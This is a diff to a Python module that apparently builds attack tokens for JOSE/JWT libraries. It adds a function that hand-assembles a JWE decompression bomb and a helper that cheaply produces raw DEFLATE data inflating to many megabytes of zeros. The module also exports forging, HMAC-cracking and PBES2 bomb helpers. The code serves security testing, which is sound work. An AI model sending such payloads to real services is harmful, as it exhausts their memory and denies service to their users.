@@ -37,6 +37,7 @@ import os
 import tempfile
 import time
 import tracemalloc
+import zlib
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
 from contextlib import contextmanager
 from dataclasses import dataclass, field
@@ -103,6 +104,7 @@ __all__ = [
     "build_confusion_matrix",
     "crack_hmac",
     "decompression_bomb",
+    "deflated_zeros",
     "duplicate_member_payload",
     "forge",
     "forge_embedded_jwk",
@@ -289,11 +291,30 @@ def decompression_bomb(
 ) -> str:
     """A compact JWE with ``zip: DEF`` whose plaintext is ``size`` zero bytes: about a thousand times
     smaller compressed (22 MiB fits in a 30 KB token). Anyone can encrypt to a public key, so anyone
-    can send one; the recipient decompresses before any signature inside can be checked."""
-    token = jwe.JWE(bytes(size), protected=json.dumps({"alg": alg, "enc": enc, "zip": "DEF", "cty": "JWT"}))
-    token.allowed_algs = [alg, enc]
-    token.add_recipient(recipient)
-    return token.serialize(compact=True)
+    can send one; the recipient decompresses before any signature inside can be checked.
+
+    Made with jwcrypto's algorithms, step by step (RFC 7516 §5.1), around a compressed plaintext
+    built the way bombs are built (:func:`deflated_zeros`): nobody compresses 22 MiB to send one."""
+    header: dict[str, Any] = {"alg": alg, "enc": enc, "zip": "DEF", "cty": "JWT"}
+    keymgmt, cipher = JWA.keymgmt_alg(alg), JWA.encryption_alg(enc)
+    wrapped = keymgmt.wrap(recipient, cipher.wrap_key_size, None, header)
+    header.update(wrapped.get("header", {}))  # ECDH-ES: the ephemeral public key
+    protected = b64url_encode(json.dumps(header, separators=(",", ":"), sort_keys=True).encode("utf-8"))
+    deflated = deflated_zeros(size)
+    iv, ciphertext, tag = cipher.encrypt(wrapped["cek"], protected.encode("ascii"), deflated)
+    parts = (wrapped.get("ek", b""), iv, ciphertext, tag)
+    return ".".join([protected, *(b64url_encode(part) for part in parts)])
+
+
+def deflated_zeros(size: int, *, chunk: int = 1024 * 1024) -> bytes:
+    """``size`` zero bytes compressed with DEFLATE, as ``"zip": "DEF"`` names it (RFC 7516 §4.1.3),
+    without the zlib wrapper. One ``chunk`` is compressed and its blocks are repeated: after a full
+    flush the compressor starts afresh, so every further chunk of zeros would compress to the same
+    bytes. What inflates is exactly ``size`` zeros; building it costs one chunk, not ``size``."""
+    whole, rest = divmod(size, chunk)
+    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)  # raw DEFLATE: negative window bits
+    block = compressor.compress(bytes(chunk)) + compressor.flush(zlib.Z_FULL_FLUSH) if whole else b""
+    return block * whole + compressor.compress(bytes(rest)) + compressor.flush(zlib.Z_FINISH)
 
 
 def pbes2_p2c_bomb(p2c: int, *, alg: str = "PBES2-HS256+A128KW", enc: str = "A128GCM") -> str:
